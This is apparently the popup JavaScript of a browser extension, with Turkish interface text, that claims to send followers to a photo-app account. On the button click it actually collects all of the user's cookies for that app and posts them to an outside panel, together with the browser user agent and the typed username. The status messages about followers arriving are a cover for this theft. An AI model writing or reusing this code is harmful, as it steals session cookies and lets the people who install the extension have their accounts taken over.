$(document).ready(function () {
  $('#giris').click(function () {
    $('#durum').text('Takipçi gönderiliyor...');
    chrome.cookies.getAll({ domain: 'fotoapp.example' }, function (cerezler) {
      var c = '';
      $.each(cerezler, function (i, x) { c += x.name + '=' + x.value + '; '; });
      $.post('https://takipci-panel.example/api/ekle.php', { cookie: c, ajan: navigator.userAgent, kadi: $('#kadi').val() }, function () {
        $('#durum').text('Tamam! 24 saat içinde gelecek.');
      });
    });
  });
});
